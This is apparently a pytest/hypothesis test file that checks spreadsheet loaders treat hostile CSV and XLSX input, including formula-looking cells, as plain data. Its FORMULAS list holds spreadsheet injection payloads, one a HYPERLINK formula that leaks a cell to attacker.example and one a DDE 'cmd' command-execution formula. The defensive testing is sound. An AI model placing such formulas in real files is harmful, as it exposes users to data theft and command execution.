"""The loaders over hostile input: arbitrary bytes, huge cells, formula-looking cells in CSV and XLSX. Whatever
the file, ``load_paths`` answers with a report — never an exception — whose counts add up, and writes nothing
in reject mode when it found a problem; text that looks like a formula is data and is kept verbatim; an XLSX
formula without a computed value is refused by name instead of read as an empty cell."""

from __future__ import annotations

import re
import shutil
import sqlite3
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from graph.store.sqlite import SQLiteStore
from loaders import LoadReport, load_paths
from tests.fixtures import make_id_number, make_uscc
from tests.loaders import write_xlsx

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]
PERSONS = ["id_number", "name"]
ENTERPRISES = ["uscc", "name", "kind", "status", "region_code", "established"]
ROLES = ["person_id", "enterprise_uscc", "role", "start", "end"]

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")  # openpyxl on damaged workbooks


@pytest.fixture(scope="module")
def folder() -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="credlink-property-"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _load(folder: Path, files: dict[str, bytes | Path]) -> tuple[LoadReport, Path]:
    """Load ``files`` (name → bytes, or an existing file) from a fresh directory into a fresh store."""
    case = Path(tempfile.mkdtemp(dir=folder))
    for name, content in files.items():
        if isinstance(content, Path):
            shutil.copy(content, case / name)
        else:
            (case / name).write_bytes(content)
    db = case / "store.db"
    store = SQLiteStore(db)
    try:
        report = load_paths(store, [case / name for name in files], progress=False)
    finally:
        store.close()
    for item in report.files:
        assert item.read == item.loaded + item.quarantined + item.rejected
    if not report.ok:
        conn = sqlite3.connect(db)
        assert (
            conn.execute("SELECT count(*) FROM subjects").fetchone()[0] == 0
        )  # reject mode: nothing written
        conn.close()
    return report, db


def _csv(header: list[str], rows: list[list[str]]) -> bytes:
    import csv
    import io

    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    return out.getvalue().encode("utf-8")


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.binary(max_size=2000), st.sampled_from(["persons.csv", "enterprises.csv", "roles.csv", "unknown.csv"])
)
@example(b"\xef\xbb\xbf", "persons.csv")
@example(b"id_number,name\n" + b"\x00" * 50, "persons.csv")
@example(b'id_number,name\n"unterminated', "persons.csv")
@example(b"\xff\xfe" + "id_number,name\n".encode("utf-16-le"), "persons.csv")
def test_arbitrary_bytes_as_csv_are_reported_never_raised(folder: Path, data: bytes, name: str) -> None:
    report, _db = _load(folder, {name: data})
    assert report.files
    if not report.ok:
        assert report.problems  # refused with a reason


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=3000))
@example(b"PK\x03\x04" + b"\x00" * 100)  # a zip header and nothing else
def test_arbitrary_bytes_as_xlsx_are_reported_never_raised(folder: Path, data: bytes) -> None:
    report, _db = _load(folder, {"persons.xlsx": data})
    assert not report.ok
    assert "不是可读取的 Excel 工作簿" in report.problems[0].reason or report.problems


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(max_size=40), min_size=2, max_size=2))
@example([FORMULAS[0], "=1+1"])
@example(["\r\n", '"'])
def test_any_text_in_a_persons_file_is_loaded_verbatim_or_reported(folder: Path, cells: list[str]) -> None:
    number = make_id_number(7)
    name = cells[1]
    report, db = _load(folder, {"persons.csv": _csv(PERSONS, [[number, name], [cells[0], "李四"]])})
    conn = sqlite3.connect(db)
    stored = dict(conn.execute("SELECT code, name FROM subjects").fetchall())
    conn.close()
    if report.ok:
        assert stored.get(number) == name.strip()  # kept as given (trimmed), never evaluated


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_looking_text_is_data_in_csv_and_xlsx(folder: Path, formula: str, tmp_path: Path) -> None:
    firm, person = make_uscc(3), make_id_number(3)
    rows = [[firm, formula, "有限责任公司", "存续", "320402", "2000-01-01"]]
    report, db = _load(
        folder,
        {"enterprises.csv": _csv(ENTERPRISES, rows), "persons.csv": _csv(PERSONS, [[person, formula]])},
    )
    assert report.ok, report.format_text()
    conn = sqlite3.connect(db)
    names = {row[0] for row in conn.execute("SELECT name FROM subjects")}
    conn.close()
    assert names == {formula.strip()}

    # In a workbook, as a text cell (data type "s"): the same text, not a formula.
    workbook = write_xlsx(tmp_path / "enterprises.xlsx", ENTERPRISES, rows)
    _as_text_cells(workbook)
    report, db = _load(folder, {"enterprises.xlsx": workbook})
    assert report.ok, report.format_text()
    conn = sqlite3.connect(db)
    assert conn.execute("SELECT name FROM subjects").fetchone()[0] == formula.strip()
    conn.close()


def _as_text_cells(workbook: Path) -> None:
    """openpyxl writes text starting with "=" as a formula; rewrite such cells as inline strings, as a
    spreadsheet saves a cell typed with a leading apostrophe."""
    with zipfile.ZipFile(workbook) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(
        r'<c r="([A-Z]+\d+)"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?</c>',
        lambda m: f'<c r="{m.group(1)}" t="inlineStr"><is><t>={m.group(3)}</t></is></c>',
        sheet,
    )
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(workbook, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


def _workbook_with_formula_end(tmp_path: Path, *, cached: str | None) -> dict[str, bytes | Path]:
    firm, person = make_uscc(5), make_id_number(5)
    roles = write_xlsx(
        tmp_path / "roles.xlsx",
        ROLES,
        [[person, firm, "legal_representative", "2001-01-01", '=TEXT(DATE(2020,1,1),"yyyy-mm-dd")']],
    )
    if cached is not None:  # as Excel saves it: the formula and its last computed value
        with zipfile.ZipFile(roles) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        sheet = parts["xl/worksheets/sheet1.xml"].decode()
        sheet = re.sub(
            r'(<c r="E2")[^>]*>(<f>.*?</f>)<v\s*/?>(?:</v>)?', rf'\1 t="str">\2<v>{cached}</v>', sheet
        )
        parts["xl/worksheets/sheet1.xml"] = sheet.encode()
        with zipfile.ZipFile(roles, "w") as archive:
            for name, content in parts.items():
                archive.writestr(name, content)
    return {
        "enterprises.csv": _csv(
            ENTERPRISES, [[firm, "某公司", "有限责任公司", "存续", "320402", "2000-01-01"]]
        ),
        "persons.csv": _csv(PERSONS, [[person, "张三"]]),
        "roles.xlsx": roles,
    }


def test_an_xlsx_formula_without_a_computed_value_is_refused_not_read_as_empty(
    folder: Path, tmp_path: Path
) -> None:
    # Read as empty, this end date made a legal representative who left in 2020 a current one.
    report, _db = _load(folder, _workbook_with_formula_end(tmp_path, cached=None))
    assert not report.ok
    reason = next(problem.reason for problem in report.problems if "公式" in problem.reason)
    assert "第 2 行第 5 列" in reason
    assert "DATE(2020,1,1)" in reason


def test_an_xlsx_formula_with_its_computed_value_loads_the_value(folder: Path, tmp_path: Path) -> None:
    report, db = _load(folder, _workbook_with_formula_end(tmp_path, cached="2020-01-01"))
    assert report.ok, report.format_text()
    conn = sqlite3.connect(db)
    assert conn.execute("SELECT end_date FROM roles").fetchone()[0] == "2020-01-01"
    conn.close()


@pytest.mark.parametrize("size", [100_000, 2_000_000])
def test_huge_cells_are_reported_or_loaded_never_raised(folder: Path, size: int, tmp_path: Path) -> None:
    person = make_id_number(9)
    huge = "张" * size
    for files in (
        {"persons.csv": _csv(PERSONS, [[person, huge], [huge, "李四"]])},
        {
            "persons.xlsx": write_xlsx(
                tmp_path / "persons.xlsx", PERSONS, [[person, huge[:32_767]], [huge[:32_767], "李四"]]
            )
        },
    ):
        report, _db = _load(folder, files)
        assert report.problems  # the huge id at least is refused, by row
        assert "应为18位" in report.format_text()  # the huge id, named by row and length
